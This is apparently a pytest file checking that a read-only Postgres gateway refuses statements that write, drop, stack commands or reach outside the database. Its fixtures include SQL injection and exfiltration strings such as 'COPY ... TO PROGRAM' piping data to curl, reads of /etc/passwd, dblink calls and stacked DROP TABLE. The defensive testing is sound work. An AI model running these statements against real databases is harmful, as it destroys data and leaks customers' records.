"""R-04: every statement that would change, copy or reach anything is refused at the gate, with its reason and the nearest form.

`test_database_refuses_too` sends its own fixtures past the gate to the database; here the gate gets them all, and more.
"""

import re

import pytest

from gateway.guards.statements import Refused, Statement, Why, judge, normalised
from gateway.relay.postgres.gate import StatementGate
from gateway.relay.postgres.ports import Denied
from tests.gateway.guards.statements.a_catalogue import CATALOGUE, LIMITS
from tests.hostile.test_database_refuses_too import FILES, FUNCTIONS, OUT_OF_READ_ONLY, RIGHTS, WRITES

STATEMENTS = {
    # rows changed
    "insert": ("INSERT INTO customers (customer_id) VALUES ('X')", Why.STATEMENT),
    "insert of a query": ("INSERT INTO elsewhere SELECT customer_id, phone FROM customers RETURNING plan", Why.STATEMENT),
    "update": ("UPDATE customers SET plan = phone RETURNING plan", Why.STATEMENT),
    "delete": ("DELETE FROM customers USING calls RETURNING customers.phone", Why.STATEMENT),
    "merge": ("MERGE INTO calls USING customers ON false WHEN MATCHED THEN DO NOTHING", Why.STATEMENT),
    "truncate": ("TRUNCATE customers CASCADE", Why.STATEMENT),
    "upsert": ("INSERT INTO plans VALUES ('a') ON CONFLICT DO NOTHING", Why.STATEMENT),
    "delete in a CTE": ("WITH gone AS (DELETE FROM customers RETURNING phone) SELECT * FROM gone", Why.STATEMENT),
    "insert behind a CTE": ("WITH x AS (SELECT 1) INSERT INTO elsewhere SELECT '1', '2'", Why.STATEMENT),
    "delete in a nested CTE": ("SELECT * FROM (WITH g AS (DELETE FROM calls RETURNING 1) SELECT * FROM g) x", Why.STATEMENT),
    # structure changed
    "create": ("CREATE TABLE copy_ AS TABLE customers", Why.STATEMENT),
    "temporary view": ("CREATE TEMP VIEW v AS SELECT phone AS plan FROM customers", Why.STATEMENT),
    "select into": ("SELECT * INTO TEMP copied FROM customers", Why.CLAUSE),
    "alter": ("ALTER TABLE customers RENAME phone TO plan2", Why.STATEMENT),
    "drop": ("DROP TABLE customers", Why.STATEMENT),
    "grant": ("GRANT SELECT ON customers TO PUBLIC", Why.STATEMENT),
    "function": ("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT phone FROM customers'", Why.STATEMENT),
    "do block": ("DO $$ BEGIN RAISE NOTICE '%', (SELECT phone FROM public.customers LIMIT 1); END $$", Why.STATEMENT),
    # several in one
    "stacked": ("SELECT 1; DROP TABLE customers", Why.SEVERAL),
    "stacked behind a comment": ("SELECT 1 /* ; */; -- x\nDELETE FROM customers", Why.SEVERAL),
    "stacked behind a dollar quote": ("SELECT $a$;$a$; TRUNCATE customers", Why.SEVERAL),
    "stacked behind NUL": ("SELECT 1\0; DROP TABLE customers", Why.SYNTAX),
    # files and other ways out
    "into outfile": ("SELECT phone FROM customers INTO OUTFILE '/tmp/x'", Why.SYNTAX),
    "copy out": ("COPY customers TO STDOUT", Why.STATEMENT),
    "copy a query": ("COPY (SELECT phone FROM customers) TO STDOUT WITH CSV", Why.STATEMENT),
    "copy to a program": ("COPY customers TO PROGRAM 'curl -T - http://x'", Why.STATEMENT),
    "copy in": ("COPY customers FROM '/etc/passwd'", Why.STATEMENT),
    "export": ("SELECT lo_export(1, '/tmp/x')", Why.FUNCTION),
    "read a file": ("SELECT pg_read_file('/etc/passwd')", Why.FUNCTION),
    "another database": ("SELECT * FROM dblink('dbname=x', 'SELECT phone FROM customers') t(a text)", Why.FUNCTION),
    "to everybody who listens": ("SELECT pg_notify('x', phone) FROM customers", Why.FUNCTION),
    "into a setting": ("SELECT set_config('application_name', phone, false) FROM customers", Why.FUNCTION),
    "a query in a text": ("SELECT query_to_xml('SELECT phone FROM customers', true, true, '')", Why.FUNCTION),
    # functions with an effect, and functions of the database's own
    "sequence": ("SELECT nextval('numbers')", Why.FUNCTION),
    "end another session": ("SELECT pg_terminate_backend(1)", Why.FUNCTION),
    "lock": ("SELECT pg_advisory_lock(1)", Why.FUNCTION),
    "sleep": ("SELECT pg_sleep(100)", Why.FUNCTION),
    "security definer": ("SELECT public.renamed()", Why.FUNCTION),
    "procedure": ("CALL public.emptied()", Why.STATEMENT),
    "a function by its other spelling": ("SELECT ('C1'::text).leak", Why.WHOLE_ROW),
    "an operator of the database's own": ("SELECT plan OPERATOR(public.+) 1 FROM customers", Why.OPERATOR),
    # around the gate
    "prepare": ("PREPARE p AS DELETE FROM customers", Why.STATEMENT),
    "execute": ("EXECUTE p", Why.STATEMENT),
    "cursor": ("DECLARE c CURSOR WITH HOLD FOR SELECT phone FROM customers", Why.STATEMENT),
    "lock rows": ("SELECT customer_id FROM customers FOR UPDATE", Why.CLAUSE),
    "lock a table": ("LOCK TABLE customers", Why.STATEMENT),
    "write again": ("SET TRANSACTION READ WRITE", Why.SETTING),
    "another role": ("SET ROLE postgres", Why.SETTING),
    "another path": ("SET search_path = evil, public", Why.SETTING),
    "explain that runs": ("EXPLAIN ANALYZE DELETE FROM customers", Why.CLAUSE),
    "explain of a change": ("EXPLAIN DELETE FROM customers", Why.STATEMENT),
}  # fmt: skip
READING = {"another table", "another's table"}  # only read: masked whole by the gate, and the role's rights refuse it
PAST_THE_GATE = {**WRITES, **FILES, **FUNCTIONS, **RIGHTS, **{each: each for each in OUT_OF_READ_ONLY}}


@pytest.mark.parametrize(("sql", "why"), STATEMENTS.values(), ids=STATEMENTS)
def test_R04_a_statement_is_refused_with_its_reason_and_the_nearest_form(sql: str, why: Why):
    refused = judge(sql, CATALOGUE, LIMITS)
    assert isinstance(refused, Refused), refused
    assert refused.why is why
    for text in (refused.text, refused.nearest):
        assert re.search(r"[ぁ-んァ-ヶ一-龠]", text.ja)
        assert text.en.isascii()
        assert text.en.endswith((".", ")")) or ":" in text.en


@pytest.mark.parametrize("name", PAST_THE_GATE)
def test_R04_what_the_database_refuses_never_gets_there(name: str):
    judged = judge(PAST_THE_GATE[name], CATALOGUE, LIMITS)
    if name in READING:
        assert isinstance(judged, Statement)
        assert not any(each.is_harmless for each in judged.outputs)
        return
    assert isinstance(judged, Refused)


def test_R04_there_are_twenty_and_more():
    assert len(STATEMENTS) >= 20
    assert {Why.STATEMENT, Why.CLAUSE, Why.SEVERAL, Why.FUNCTION, Why.SETTING, Why.SYNTAX} <= {
        why for _, why in STATEMENTS.values()
    }


def test_R04_the_relay_gets_a_state_and_words_for_each():
    gate = StatementGate(CATALOGUE, LIMITS, normalised)
    for sql, why in STATEMENTS.values():
        denied = gate.judge(sql)
        assert isinstance(denied, Denied), sql
        assert re.fullmatch(r"[0-9A-Z]{5}", denied.sqlstate)
        assert denied.why == why.value
        assert denied.hint is not None
